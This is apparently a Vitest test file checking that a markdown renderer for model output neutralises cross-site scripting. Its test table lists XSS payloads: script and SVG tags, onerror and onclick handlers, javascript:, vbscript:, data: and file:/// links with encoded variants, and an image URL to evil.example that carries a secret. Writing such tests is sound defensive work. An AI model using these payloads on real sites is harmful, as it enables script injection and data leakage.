import { describe, expect, it } from 'vitest'
import { markdown } from '../../renderer/text/markdown.ts'

describe('markdown of a model', () => {
  it.each([
    ['<script>alert(1)</script>', '<script'],
    ['<img src=x onerror=alert(1)>', '<img'],
    ['a <b onclick="x()">b</b>', '<b '],
    ['<svg/onload=alert(1)>', '<svg'],
    ['![x](https://evil.example/?q=secret)', '<img'],
    ['[x](javascript:alert(1))', 'href'],
    ['[x](JaVaScRiPt:alert(1))', 'href'],
    ['[x](  javascript:alert(1) )', 'href'],
    ['[x](java&#115;cript:alert(1))', 'href'],
    ['[x](&#x6A;avascript:alert(1))', 'href'],
    ['[x](data:text/html,<script>1</script>)', 'href'],
    ['[x](vbscript:x)', 'href'],
    ['[x](file:///etc/passwd)', 'href'],
    ['[x](//evil.example)', 'href'],
    ['[x](/local)', 'href'],
    ['<javascript:alert(1)>', 'href'],
    ['![x](javascript:alert(1))', 'href'],
    ['[x]: javascript:alert(1)\n\n[x]', 'href'],
  ])('makes %j harmless', (source, forbidden) => {
    expect(markdown.render(source)).not.toContain(forbidden)
  })

  it('writes no inline styles and no scripts', () => {
    const html = markdown.render('| a | b |\n|:-:|--:|\n| 1 | 2 |\n\n```js\nlet a = 1\n```')
    expect(html).not.toMatch(/<script|<style/)
  })

  it('opens links to the web and to mail outside, and shows where they lead', () => {
    const html = markdown.render('[a](https://example.org/x) <mailto:b@example.org>')
    expect(html).toContain(
      '<a href="https://example.org/x" title="https://example.org/x" target="_blank" rel="noopener noreferrer">a</a>',
    )
    expect(html).toContain('href="mailto:b@example.org"')
  })

  it('shows an image as a link to it, with what it says escaped', () => {
    expect(markdown.render('![a <b> "c"](https://example.org/?a=1&b=2)')).toBe(
      '<p><a href="https://example.org/?a=1&amp;b=2" title="https://example.org/?a=1&amp;b=2" target="_blank" ' +
        'rel="noopener noreferrer">a &lt;b&gt; &quot;c&quot; (image)</a></p>\n',
    )
  })

  it('puts no link into a link where a link holds an image', () => {
    const html = markdown.render('[![a](https://example.org/a.png)](https://example.org)')
    expect(html.match(/<a /g)).toHaveLength(1)
  })
})
